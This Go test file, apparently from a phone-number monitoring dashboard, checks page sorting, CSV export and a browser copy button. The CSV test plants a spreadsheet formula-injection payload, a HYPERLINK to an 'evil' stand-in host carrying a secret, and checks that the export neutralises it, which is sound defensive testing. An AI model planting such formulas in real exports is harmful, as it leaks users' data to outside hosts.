package web

import (
	"encoding/csv"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/require"

	"numwatch/phone"
)

// The numbers with which most is wrong are listed first, unless another order is asked for.
func TestNumbersPageIsSorted(t *testing.T) {
	b := busyBot()
	h := New(b.options(t))
	var all []string
	for _, n := range b.numbers {
		all = append(all, n.Number.PhoneNumber)
	}
	listed := func(path string) (numbers []string, body string) {
		t.Helper()
		w := request{path: path}.to(h)
		require.Equal(t, 200, w.Code)
		for _, m := range regexp.MustCompile(`<a class="number" href="[^"]*">(\d+)<`).FindAllStringSubmatch(w.Body.String(), -1) {
			numbers = append(numbers, m[1])
		}
		return numbers, w.Body.String()
	}
	worst, body := listed("/numbers")
	require.Equal(t, b.numbers[17].Number.PhoneNumber, worst[0], "the one that is banned")
	require.NotContains(t, body, "aria-sort")
	require.Contains(t, body, `href="?sort=Status"`)

	slices.Sort(all)
	first, body := listed("/numbers?sort=number&q=")
	require.Equal(t, all[:50], first)
	require.Contains(t, body, `aria-sort="ascending"><a class="sort" href="?sort=-number">`)
	require.Contains(t, body, `<input type="hidden" name="sort" value="number">`, "a search keeps it")
	second, _ := listed("/numbers?sort=number&page=2")
	require.Equal(t, all[50:100], second)
	slices.Reverse(all)
	last, body := listed("/numbers?sort=-number")
	require.Equal(t, all[:50], last)
	require.Contains(t, body, `aria-sort="descending"`)
	_, body = listed("/numbers?sort=colour")
	require.Contains(t, body, "sort must be one of worst, number, space")
}

// The table for spreadsheets has everything that is filtered, without secrets and formulas.
func TestNumbersAsCSV(t *testing.T) {
	b := busyBot()
	b.numbers[1].Number.Set(phone.VerifiedName, `=HYPERLINK("https://evil.example.com/?k=TOPSECRET")`)
	h := New(b.options(t))
	body := request{path: "/numbers?QualityRating=RED&sort=number&page=1&Status="}.to(h).Body.String()
	link := regexp.MustCompile(`href="\./(numbers\.csv[^"]*)"`).FindStringSubmatch(body)
	require.Equal(t, "numbers.csv?QualityRating=RED", link[1])
	w := request{path: "/" + link[1]}.to(h)
	require.Equal(t, "text/csv; charset=utf-8", w.Header().Get("Content-Type"))
	require.Equal(t, `attachment; filename="numbers-20261123T120000Z.csv"`, w.Header().Get("Content-Disposition"))
	rows, err := csv.NewReader(w.Body).ReadAll()
	require.NoError(t, err)
	require.Equal(t, []string{"PhoneNumber", "Account", "SpaceId", "Space", "Labels", "VerifiedName"}, rows[0][:6])
	require.Len(t, rows, 3, "two are red")
	require.Contains(t, rows[1], "RED")
	require.Contains(t, rows[1], "tier=gold")

	whole := request{path: "/numbers.csv"}.to(h).Body.String()
	require.Equal(t, len(b.numbers)+1, strings.Count(whole, "\n"))
	require.Contains(t, whole, `"'=HYPERLINK(`)
	require.NotContains(t, whole, "TOPSECRET")
	require.Equal(t, 400, request{path: "/numbers.csv?colour=red"}.to(h).Code)
	b.broken = errDisk
	require.Equal(t, 500, request{path: "/numbers.csv"}.to(h).Code)
}

// A press copies a number, and says so; healthy values do not stand out.
func TestCopyInABrowser(t *testing.T) {
	fromEverywhere(t, copyNumber)
}

func copyNumber(t *testing.T, tab *tab) {
	b := busyBot()
	tab.do(t, chromedp.Navigate(serveTown(t, b)+"/numbers"), chromedp.WaitVisible(".copy"),
		chromedp.Evaluate[chromedp.Void](`Object.defineProperty(navigator, "clipboard", { value: { writeText: async (text) => { window.pasted = text; } } })`),
		chromedp.Click(".copy"))
	tab.eventually(t, `document.querySelector(".copy").textContent === "Copied " + window.pasted`)
	require.Equal(t, b.numbers[17].Number.PhoneNumber, ask(t, tab, chromedp.Evaluate[string](`window.pasted`)))
	tab.eventually(t, `document.querySelector(".copy").textContent === "Copy " + window.pasted`)
	colour := func(of string) string {
		return ask(t, tab, chromedp.Evaluate[string](`getComputedStyle(document.querySelector(".numbers `+of+`")).color`))
	}
	require.Equal(t, ask(t, tab, chromedp.Evaluate[string](`getComputedStyle(document.querySelector(".numbers .sub")).color`)), colour(".state.good"))
	require.NotEqual(t, colour(".state.good"), colour(".state.dire"))

	sort := `a.sort[href*="numbers"]` // which cards have too
	tab.do(t, chromedp.Navigate(ask(t, tab, chromedp.Evaluate[string](`new URL("spaces", location).href`))), chromedp.Click(sort), chromedp.WaitReady("[aria-sort] "+sort))
	tab.requireCalm(t)
}
